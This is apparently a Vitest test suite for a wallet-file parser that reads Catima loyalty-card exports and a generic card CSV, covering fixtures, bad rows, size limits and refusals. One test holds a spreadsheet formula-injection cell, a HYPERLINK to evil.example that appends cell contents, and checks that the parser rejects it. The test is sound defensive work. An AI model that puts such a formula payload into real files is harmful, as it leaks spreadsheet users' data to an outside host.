import { describe, expect, it } from "vitest";
import { AppError, writeError } from "@/lib/http/errors";
import { parseWalletFile } from "@/lib/scan/parse-wallet-file";
import { catimaFixture, zipOf } from "@/tests/support/zip-files";

const bytes = (text: string) => new TextEncoder().encode(text);
const parsed = async (input: Uint8Array) => {
  const file = await parseWalletFile(input);
  return {
    ...file,
    problems: file.problems.map((problem) => ({ ...problem, reason: writeError(problem.reason, "en") })),
  };
};
const refusal = async (input: Uint8Array) => {
  try {
    await parseWalletFile(input);
  } catch (error) {
    expect(error).toBeInstanceOf(AppError);
    return { code: (error as AppError).code, message: (error as AppError).message };
  }
  throw new Error("not refused");
};

// What Catima's own fixture holds, as cards: the barcode holds `barcodeid`
// when there is one (the printed `cardid` then joins the label), an empty
// barcode type is guessed later, the note's first line is the label.
const CATIMA_V2_CARDS = [
  { line: 9, store: "Pharmacy", value: "dhshsvshs", format: null, label: "", groups: ["Health"] },
  { line: 10, store: "Card 1", value: "5432", format: "qr_code", label: "Note 1 · 1234", groups: [] },
  { line: 11, store: "cheese", value: "Käseschnitte", format: "aztec", label: "", groups: [] },
  { line: 12, store: "Clothes Store", value: "a", format: null, label: "Note about store", groups: ["Fashion"] },
  { line: 13, store: "Department Store", value: "A", format: null, label: "", groups: [] },
  {
    line: 14,
    store: "Grocery Store",
    value: "dhd",
    format: null,
    label: "Multiline note about grocery store",
    groups: ["Food"],
  },
  {
    line: 17,
    store: "Restaurant",
    value: "23456",
    format: "code_128",
    label: "Note about restaurant here · 98765432",
    groups: ["Food"],
  },
  { line: 18, store: "Shoe Store", value: "-5317", format: "aztec", label: "a", groups: ["Fashion"] },
].map((card) => ({ ...card, person: null }));

describe("Catima exports", () => {
  it("reads Catima's version 2 fixture: groups, cards and their links", async () => {
    expect(await parseWalletFile(catimaFixture("catima_v2.csv"))).toEqual({
      kind: "catima",
      rows: CATIMA_V2_CARDS,
      problems: [],
    });
  });

  it("reads the same cards from the zip Catima exports, images left aside", async () => {
    const zip = zipOf({ "catima.csv": catimaFixture("catima_v2.csv"), "card_1_front.png": new Uint8Array(64) });
    expect((await parseWalletFile(zip)).rows).toEqual(CATIMA_V2_CARDS);
  });

  it("reads the older version 2 layout (other columns, a trailing comma on each row)", async () => {
    const { rows } = await parseWalletFile(catimaFixture("catima_v2_2021.csv"));
    const byStore = (list: { store: string; line: number }[]) =>
      list.map((card) => ({ ...card, line: 0 })).sort((a, b) => a.store.localeCompare(b.store));
    expect(byStore(rows)).toEqual(byStore(CATIMA_V2_CARDS.filter((card) => card.store !== "cheese")));
  });

  it.each([
    ["catima_v1_starred_field.csv", "aztec"],
    ["catima_v1_no_barcode_type.csv", null],
  ])("reads version 1 (%s)", async (name, format) => {
    expect((await parseWalletFile(catimaFixture(name))).rows).toEqual([
      { line: 2, store: "store", value: "12345", format, label: "note", person: null, groups: [] },
    ]);
  });

  it("keeps a row it cannot read as a problem with its reason", async () => {
    const file = bytes(
      "_id,store,note,cardid,barcodetype\r\n1,,n,111,\r\n2,Lidl,,,\r\nx,Lidl,,333,\r\n4,Lidl,,444,MAXICODE\r\n5,Lidl,,555,EAN_8\r\n",
    );
    expect(await parsed(file)).toEqual({
      kind: "catima",
      rows: [{ line: 6, store: "Lidl", value: "555", format: "ean_8", label: "", person: null, groups: [] }],
      problems: [
        { line: 2, reason: "It has no store.", store: null, value: "111" },
        { line: 3, reason: "It has no card number (cardid).", store: "Lidl", value: null },
        { line: 4, reason: "Its _id is not a whole number, as Catima writes it.", store: "Lidl", value: "333" },
        { line: 5, reason: "Its barcode type MAXICODE is not one Labs can draw.", store: "Lidl", value: "444" },
      ],
    });
  });

  it("refuses a layout version it does not know", async () => {
    expect(await refusal(bytes("3\r\n\r\n_id\r\n"))).toEqual({
      code: "validation_failed",
      message: "This is a Catima export of layout version 3; Labs reads versions 1 and 2.",
    });
  });

  it("refuses a zip whose catima.csv is something else", async () => {
    expect((await refusal(zipOf({ "catima.csv": "hello,world\r\n1,2\r\n" }))).message).toBe(
      "The catima.csv in this zip is not a Catima export.",
    );
  });
});

describe("the wallet CSV", () => {
  it("reads store, number, format, label and person, in any order and case, after a BOM", async () => {
    const file = bytes(
      "\uFEFFPerson,Store,Number,Format,Label\r\nAna,Continente,2501234567890,EAN-13,Família\r\n,Lidl,ABC-1,,\r\n\r\n",
    );
    expect(await parseWalletFile(file)).toEqual({
      kind: "csv",
      rows: [
        {
          line: 2,
          store: "Continente",
          value: "2501234567890",
          format: "ean_13",
          label: "Família",
          person: "Ana",
          groups: [],
        },
        { line: 3, store: "Lidl", value: "ABC-1", format: null, label: "", person: null, groups: [] },
      ],
      problems: [],
    });
  });

  it("keeps rows with an unknown format or too many cells as problems", async () => {
    const file = bytes("store,number,format\nLidl,1,barcode\nLidl,2,,surplus\n");
    expect((await parsed(file)).problems).toEqual([
      {
        line: 2,
        reason:
          "“barcode” is not a barcode format; use one of ean_13, ean_8, upc_a, upc_e, code_128, code_39, code_93, codabar, itf, qr_code, aztec, data_matrix, pdf417.",
        store: "Lidl",
        value: "1",
      },
      { line: 3, reason: "It has more cells than the header's 3 columns.", store: "Lidl", value: "2" },
    ]);
  });

  it.each([
    ["name,card\nLidl,1\n", /columns Labs does not know \(“name”, “card”\)/],
    ["store,label\nLidl,x\n", /no number column/],
    ["store,number,store\nLidl,1,Aldi\n", /names a column twice/],
    ["", /The file is empty/],
    ['store,number\n"Lidl,1\n', /The CSV cannot be read: Quote Not Closed/],
  ])("refuses wrong columns or a broken CSV: %j", async (text, message) => {
    const refused = await refusal(bytes(text));
    expect(refused.code).toBe("validation_failed");
    expect(refused.message).toMatch(message);
  });

  it("refuses the whole file for a formula cell, naming where it is", async () => {
    const file = bytes('store,number\nLidl,1\n"=HYPERLINK(""http://evil.example/?""&A1,""Win"")",2\n');
    expect(await refusal(file)).toEqual({
      code: "validation_failed",
      message:
        'Line 3, column store: “=HYPERLINK("http://evil.exampl…” is a spreadsheet formula, not a card. Nothing was imported; remove it, or start the cell with an apostrophe to keep it as text.',
    });
  });

  it("reads a formula an export neutralised as the text it was", async () => {
    const file = bytes("store,number,label\nLidl,1,'=1+1\nLidl,-5317,'@home\n");
    expect((await parseWalletFile(file)).rows.map((row) => [row.value, row.label])).toEqual([
      ["1", "=1+1"],
      ["-5317", "@home"],
    ]);
  });

  it("refuses binary that is neither a zip nor UTF-8 text", async () => {
    expect((await refusal(new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]))).code).toBe("unsupported_media_type");
  });

  it("refuses a bare CSV larger than 2 MiB before reading it", async () => {
    const big = bytes(`store,number\n${"Lidl,1\n".repeat(400_000)}`);
    expect((await refusal(big)).code).toBe("payload_too_large");
  });
});

describe("large files", () => {
  it("refuses a file of more rows than an import may hold, without reading past them", async () => {
    const many = bytes(`store,number\n${"Lidl,1\n".repeat(10_000)}`);
    expect(await refusal(many)).toEqual({
      code: "payload_too_large",
      message: "This file has more than 10000 rows, the most an import may have. Split the file.",
    });
    // Empty lines are rows too: 2 MiB of them would be a million.
    expect((await refusal(bytes("\n".repeat(2 * 1024 * 1024)))).code).toBe("payload_too_large");
  });

  it("lets the event loop turn while it parses a large CSV", async () => {
    const rows = Array.from({ length: 9_000 }, (_, i) => `Lidl,${1_000_000 + i},Card ${i}`);
    const file = bytes(["store,number,label", ...rows].join("\n"));
    let turns = 0;
    let running = true;
    const turn = () => {
      turns++;
      if (running) setImmediate(turn);
    };
    setImmediate(turn);
    const { rows: read } = await parseWalletFile(file);
    running = false;
    expect(read).toHaveLength(9_000);
    // Parsed in one go, as it was, the loop would not turn until the end.
    expect(turns).toBeGreaterThan(0);
  });
});
